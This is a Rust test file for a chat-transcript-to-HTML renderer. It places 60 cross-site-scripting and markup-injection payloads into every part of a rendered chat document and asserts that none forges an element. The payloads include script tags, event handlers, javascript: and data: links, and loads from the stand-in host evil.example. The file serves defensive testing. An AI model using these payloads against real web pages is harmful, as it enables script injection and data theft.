//! Texts that try to be more than text, in every place of a document.

use chatmd::internal::render::Options;

use super::laws::rendered;
use super::page::read_page;

/// Each attempt would set `window.pwned`, load something, or forge an element with the id `forged`.
pub(crate) const ATTEMPTS: [&str; 60] = [
    "<script>window.pwned=1</script>",
    "</code></pre><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</template><script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<script\n>window.pwned=1</script\n>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=x onerror=\"window.pwned=1\" id=\"forged\">",
    "\"><img src=x onerror=window.pwned=1>",
    "'><img src=x onerror=window.pwned=1>",
    "\" onmouseover=\"window.pwned=1\" x=\"",
    "' onfocus='window.pwned=1' autofocus='",
    "` onload=`window.pwned=1`",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='forged'/>\"></use></svg>",
    "<math><mtext></p><style><img src=x onerror=window.pwned=1></style></mtext></math>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<body onload=window.pwned=1>",
    "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<object data=\"javascript:window.pwned=1\"></object>",
    "<embed src=\"javascript:window.pwned=1\">",
    "<form action=\"https://evil.example\"><input name=a autofocus onfocus=window.pwned=1></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<style>body{display:none}</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<div style=\"background:url(https://evil.example/x.png)\" id=\"forged\">x</div>",
    "<div id=\"forged\">x</div>",
    "</div></article></main><main id=\"forged\">",
    "</details></nav><nav id=\"forged\">",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:window.pwned=1)",
    "[x](java&#115;cript:window.pwned=1)",
    "[x](&#106;avascript:window.pwned=1)",
    "[x](<java\\script:window.pwned=1>)",
    "[x]( javascript:window.pwned=1)",
    "[x](\u{1}javascript:window.pwned=1)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[x](vbscript:window.pwned=1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https://a\" onclick=\"window.pwned=1)",
    "<javascript:window.pwned=1>",
    "![x](https://evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![x\" onerror=\"window.pwned=1](data:image/png;base64,iVBORw0KGgo=)",
    "[ref]: javascript:window.pwned=1\n\n[ref]",
    "```\"><script>window.pwned=1</script>\nx\n```",
    "```html onload=window.pwned=1\n</code></pre><script>window.pwned=1</script>\n```",
    "|a|\n|-|\n|</td></table><script>window.pwned=1</script>|",
    "[^1]\n\n[^1]: <script>window.pwned=1</script>",
    "<!--><script>window.pwned=1</script>-->",
    "<![CDATA[<script>window.pwned=1</script>]]> <?php x ?> <%= x %>",
];

/// Documents with an attempt in every place: messages, calls, outputs, names, ids, citations, hosted items, comments.
pub(crate) fn documents(attempt: &str) -> Vec<String> {
    let json =
        |text: &str| serde_json::to_string(text).unwrap().replace("-->", "--\\u003e").replace("<!--", "\\u003c!--");
    let attribute = attempt.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;").replace('>', "&gt;");
    let attribute = attribute.replace('\\', "&#92;");
    let raw = format!("RAW|\n{attempt}\n|RAW");
    let text = json(attempt);
    vec![
        format!("<user>\n{raw}\n</user>"),
        format!("<assistant>\n{raw}\n</assistant>"),
        format!("<system>\n{raw}\n</system>"),
        format!("<developer>\n{raw}\n</developer>"),
        format!("<reasoning><summary>\n{raw}\n</summary></reasoning>"),
        format!("<tool_call function_name=\"f\" tool_call_id=\"c\">\n{raw}\n</tool_call>"),
        format!("<tool_response tool_call_id=\"c\">\n{raw}\n</tool_response>"),
        format!("<tool_call function_name=\"{attribute}\" tool_call_id=\"{attribute}\">{{}}</tool_call>"),
        format!("<tool_response tool_call_id=\"{attribute}\">x</tool_response>"),
        format!("<config model=\"{attribute}\" prompt_cache_key=\"{attribute}\"/>"),
        format!("<tool name=\"{attribute}\" description=\"{attribute}\">{{\"type\":\"object\"}}</tool>"),
        format!("<user id=\"m\" status=\"{attribute}\" phase=\"{attribute}\">x</user>"),
        format!("<user><img src=\"{attribute}\"/><doc src=\"{attribute}\" file filename=\"{attribute}\"/></user>"),
        format!(
            "<user><img src=\"{attribute}\" local/><doc src=\"{attribute}\" local/><doc file_id=\"{attribute}\"/></user>"
        ),
        format!("<user><agent src=\"{attribute}\">\n{raw}\n</agent></user>"),
        format!(
            "<assistant><!-- chatmd:part {{\"annotations\":[{{\"type\":\"url_citation\",\"url\":{text},\"title\":{text}}}]}} -->x</assistant>"
        ),
        format!(
            "<!-- chatmd:item {{\"type\":\"web_search_call\",\"action\":{{\"type\":\"search\",\"query\":{text}}}}} -->"
        ),
        format!(
            "<!-- chatmd:item {{\"type\":\"code_interpreter_call\",\"code\":{text},\"outputs\":[{{\"type\":\"image\",\"url\":{text}}}]}} -->"
        ),
        format!("<!-- chatmd:item {{\"type\":{text},\"x\":{text}}} -->"),
        format!("<!-- chatmd:foreign {{\"x\":{text}}} -->\n<!-- chatmd:request {{\"x\":{text}}} -->"),
        format!("<!-- {} -->", attempt.replace("-->", "").replace("<!--", "")),
        format!("<script>\n{}\n</script>", attempt.replace("script", "b").replace('<', "")),
    ]
}

#[test]
fn no_attempt_forges_an_element_or_a_link() {
    let mut pages = 0;
    for attempt in ATTEMPTS {
        for document in documents(attempt) {
            let options = Options { title: attempt.to_owned(), ..Options::default() };
            let tree = read_page(&rendered(&document, &options).html);
            assert!(!tree.ids.contains("forged"), "{document}\n{}", tree.outline);
            pages += 1;
        }
    }
    assert!(pages > 1300, "{pages}");
}

/// Writes pages with all attempts for `tests/browser/run`.
#[test]
#[ignore = "only the browser test needs the pages"]
fn pages_for_the_browser() {
    let directory = std::env::var("BROWSER_PAGES").unwrap();
    for (index, attempt) in ATTEMPTS.iter().enumerate() {
        let options = Options { title: (*attempt).to_owned(), ..Options::default() };
        let path = std::path::Path::new(&directory).join(format!("attempt-{index:02}.html"));
        std::fs::write(path, rendered(&documents(attempt).join("\n"), &options).html).unwrap();
    }
}
